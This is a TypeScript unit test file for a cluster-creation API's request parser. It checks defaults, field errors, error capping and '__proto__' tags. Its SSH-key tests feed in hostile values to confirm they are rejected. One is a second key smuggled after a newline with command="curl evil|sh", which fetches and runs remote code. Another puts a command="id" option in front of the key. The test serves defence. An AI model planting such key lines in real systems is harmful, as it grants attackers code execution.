// The create request as the contract (openapi.yaml) and the rules beside it check it: defaults, every rule's
// error with its target, and the edge cases found by probes (multi-line SSH keys, a "__proto__" tag, thousands
// of bad tags). Pure logic, milliseconds.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { clusterSpecFrom, type CreateClusterBody } from '../../../src/api/cluster-request';
import { validateRequest } from '../../../src/api/contract/request-validator';
import { ApiError } from '../../../src/api/errors';
import { sshRsaPublicKey } from '../../../local/support/ssh-key';

const key = sshRsaPublicKey(2048, 'unit@test');
/** What the route does: the contract's checks and defaults, then the rules a schema cannot say. */
const parse = (body: unknown) =>
  clusterSpecFrom(validateRequest<CreateClusterBody>('createCluster', { params: {}, query: new URLSearchParams(), body }).body, [
    'centralus',
  ]);

function problems(body: unknown): Array<{ code: string; target?: string; message: string }> {
  try {
    parse(body);
  } catch (error) {
    assert.ok(error instanceof ApiError);
    assert.equal(error.status, 400);
    return error.details ?? [];
  }
  assert.fail('expected a 400');
}

describe('create request parser', () => {
  test('fills in the walkthrough defaults', () => {
    const spec = parse({ name: 'demo1', linuxProfile: { sshPublicKey: key } });
    assert.deepEqual(spec, {
      name: 'demo1',
      location: 'centralus',
      orchestratorProfile: { orchestratorVersion: '1.11.8' },
      masterProfile: { count: 1, vmSize: 'Standard_D2_v3' },
      agentPoolProfiles: [{ name: 'agent', count: 1, vmSize: 'Standard_D2_v3', availabilityProfile: 'AvailabilitySet' }],
      linuxProfile: { adminUsername: 'azureuser', sshPublicKey: key },
      tags: {},
    });
  });

  test('lists every problem with its target', () => {
    const found = problems({ name: 'Bad_Name', masterProfile: { count: 2 }, agentPoolProfiles: [{ name: 'x', count: 0 }], extra: 1 });
    assert.deepEqual(found.map((detail) => [detail.code, detail.target]).sort(), [
      ['InvalidAgentCount', 'agentPoolProfiles[0].count'],
      ['InvalidClusterName', 'name'],
      ['InvalidMasterCount', 'masterProfile.count'],
      ['MissingField', 'linuxProfile'],
      ['UnknownField', 'extra'],
    ]);
  });

  test('an SSH key must be exactly one line', () => {
    const second = sshRsaPublicKey(2048, 'evil');
    for (const sshPublicKey of [
      `${key}\ncommand="curl evil|sh" ${second}`,
      `${key}\r\n${second}`,
      `${key}\u0000`,
      `ssh-rsa\t${key.split(' ')[1]}`,
    ]) {
      const found = problems({ name: 'demo1', linuxProfile: { sshPublicKey } });
      assert.deepEqual(
        found.map((detail) => detail.code),
        ['InvalidSshPublicKey'],
        JSON.stringify(sshPublicKey.slice(-30)),
      );
    }
    assert.equal(
      parse({ name: 'demo1', linuxProfile: { sshPublicKey: `${key}\n` } }).linuxProfile.sshPublicKey,
      key,
      'one trailing newline is fine',
    );
  });

  test('a key with options in front of it is refused', () => {
    const found = problems({ name: 'demo1', linuxProfile: { sshPublicKey: `command="id" ${key}` } });
    assert.equal(found[0]!.code, 'InvalidSshPublicKey');
  });

  test('a tag named __proto__ is kept as a tag', () => {
    const spec = parse(JSON.parse(`{"name":"demo1","linuxProfile":{"sshPublicKey":"${key}"},"tags":{"__proto__":"x","team":"a"}}`));
    assert.deepEqual(Object.keys(spec.tags).sort(), ['__proto__', 'team']);
    assert.equal(JSON.parse(JSON.stringify(spec.tags)).__proto__, 'x');
  });

  test('thousands of problems are capped, saying how many were left out', () => {
    const tags = Object.fromEntries(Array.from({ length: 3000 }, (_, index) => [`bad<${index}`, 'v']));
    const found = problems({ name: 'demo1', linuxProfile: { sshPublicKey: key }, tags });
    assert.equal(found.length, 21);
    assert.equal(found.at(-1)!.code, 'MoreProblems');
    assert.match(found.at(-1)!.message, /^2981 more problems were left out/);
  });
});
